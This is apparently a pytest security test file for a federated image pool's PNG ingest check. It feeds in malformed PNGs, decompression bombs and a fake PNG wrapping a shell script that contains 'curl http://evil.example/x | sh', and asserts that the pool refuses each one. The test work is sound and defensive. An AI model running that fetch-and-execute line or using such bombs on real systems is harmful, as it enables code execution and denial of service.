"""Images validated at ingest (plan_shared/png_check.py) against a real pool process.

Issue 12 "Images not checked": each file below carried the PNG magic and was stored.
Now the pool accepts only the canonical PNG the site's exporter writes, of the
federation's exact size and channels, and never decompresses a bomb.
"""

from __future__ import annotations

import io
import zlib

import numpy as np
import pytest
from PIL import Image

from plan_shared.png_check import PngError, check_png
from tests.pool_support import PoolServer
from tests.security.support import (
    assert_refused_and_clean,
    attempt,
    bomb,
    chunk,
    png_with,
    policy_site_dir,
    replace_image,
    signed_raw,
    write_policy,
)


def canonical(size: int = 28, channels: int = 1, seed: int = 0) -> bytes:
    """What the site's exporter (plan_shared.imaging.save_png) writes."""
    import tempfile
    from pathlib import Path

    from plan_shared.imaging import save_png

    rng = np.random.default_rng(seed)
    arr = rng.integers(0, 256, size=(size, size, channels), dtype=np.uint8)
    with tempfile.TemporaryDirectory() as d:
        return save_png(arr, Path(d) / "x.png").read_bytes()


# ---------------------------------------------------------------- the check itself (no server)


def test_the_exporter_writes_the_canonical_form():
    rows = b"".join(bytes([r % 5]) + bytes(range(r, r + 28)) for r in range(28))  # every filter type
    accepted = [(canonical(28, 1), 1), (canonical(28, 3), 3), (png_with(28, 28, zlib.compress(rows)), 1)]
    for data, ch in accepted:
        info = check_png(data, size=28, channels=ch, max_pixels=784)
        assert (info.width, info.height, info.channels) == (28, 28, ch)
        # What check_png accepts, Pillow decodes, to the same shape.
        with Image.open(io.BytesIO(data)) as im:
            im.load()
            assert (im.mode, im.size) == ({1: "L", 3: "RGB"}[ch], (28, 28))
    with pytest.raises(PngError, match="IHDR: 3 channel"):
        check_png(canonical(28, 3), size=28, channels=1)


def test_pixel_limit_is_checked_before_decompression():
    # IDAT is not even a zlib stream: a decoder would fail on it; the limit must come first.
    with pytest.raises(PngError, match=r"IHDR: 16000x16000 = 256000000 pixels, limit 16777216 \(checked before"):
        check_png(png_with(16000, 16000, b"not zlib"))
    with pytest.raises(PngError, match="IDAT is not a valid zlib stream"):
        check_png(png_with(28, 28, b"not zlib"))


def test_structure_errors():
    good = canonical()
    rows = b"".join(b"\x00" + bytes(28) for _ in range(28))
    cases = {
        "bit depth 16": png_with(28, 28, zlib.compress(rows), depth=16),
        "colour type 3": png_with(28, 28, zlib.compress(rows), colour=3),
        "IDAT inflates to 784 bytes": png_with(28, 28, zlib.compress(rows[:-28])),
        "inflates to more than": png_with(28, 28, zlib.compress(rows + b"\x00" * 100)),
        "invalid row filter type": png_with(28, 28, zlib.compress(b"\x07" + rows[1:])),
        "CRC mismatch": good[:-5] + bytes([good[-5] ^ 1]) + good[-4:],
        "IHDR must come first": b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", b"") + good[8:],
        "no PNG signature": b"GIF89a" + good[6:],
    }
    for want, data in cases.items():
        with pytest.raises(PngError, match=want):
            check_png(data, size=28, channels=1)
    assert check_png(png_with(28, 28, zlib.compress(rows))).width == 28


# ---------------------------------------------------------------- against the pool

@pytest.fixture(scope="module")
def server(pki, tmp_path_factory):
    work = tmp_path_factory.mktemp("server")
    policy = write_policy(work / "policy.json")
    with PoolServer(work / "store", pki.certs, work, extra=("--policy", str(policy))) as srv:
        yield srv
    print(srv.log())


def _attack(pki, server, tmp_path, seed: int, data: bytes, want: str, index: int = 1, site: str = "site-a"):
    out = policy_site_dir(tmp_path / f"p{seed}", site, 3, seed=seed)
    replace_image(out, index, data)
    signed = signed_raw(out, pki.site(site), lambda raw: None)
    got = attempt(signed, pki.site(site), server.address)
    rid = f"{site}-{seed}-{index:05d}"
    assert_refused_and_clean(server, signed, *got, "INVALID_ARGUMENT", f"images[{index}] (id '{rid}'): {want}")


@pytest.mark.slow
def test_canonical_images_are_stored(pki, server, tmp_path):
    out = policy_site_dir(tmp_path / "ok", "site-b", 3, seed=30)
    replace_image(out, 0, canonical(seed=3))
    signed = signed_raw(out, pki.site("site-b"), lambda raw: None)
    assert attempt(signed, pki.site("site-b"), server.address) == ("OK", "stored")


@pytest.mark.slow
def test_shell_script_behind_the_magic(pki, server, tmp_path):
    _attack(pki, server, tmp_path, 31, b"\x89PNG\r\n\x1a\n#!/bin/sh\ncurl http://evil.example/x | sh\n",
            "chunk at byte 8 declares 589377378 bytes, past the end of the file")


@pytest.mark.slow
def test_text_chunk_with_an_identifier(pki, server, tmp_path):
    good = canonical(seed=4)
    text = chunk(b"tEXt", b"Comment\x00patient MRN 0012345, Jane Doe")
    _attack(pki, server, tmp_path, 32, good[:33] + text + good[33:],
            "chunk 'tEXt' at byte 33 not allowed: only IHDR, IDAT, IEND")


@pytest.mark.slow
def test_data_after_iend(pki, server, tmp_path):
    _attack(pki, server, tmp_path, 33, canonical(seed=5) + b"PK\x03\x04 a zip archive rides along",
            "30 byte(s) after IEND")


@pytest.mark.slow
def test_1024_square_image(pki, server, tmp_path):
    buf = io.BytesIO()
    Image.fromarray(np.random.default_rng(6).integers(0, 256, (1024, 1024), dtype=np.uint8)).save(buf, "PNG")
    _attack(pki, server, tmp_path, 34, buf.getvalue(), "IHDR: 1024x1024 pixels, the federation's images are 28x28")


@pytest.mark.slow
@pytest.mark.parametrize("side", [9000, 16000])
def test_decompression_bomb(pki, server, tmp_path, side):
    data = bomb(side)
    assert len(data) < 8192  # a few KB on the wire, side*side bytes once inflated
    _attack(pki, server, tmp_path, 35 + side % 7, data,
            f"IHDR: {side}x{side} pixels, the federation's images are 28x28")
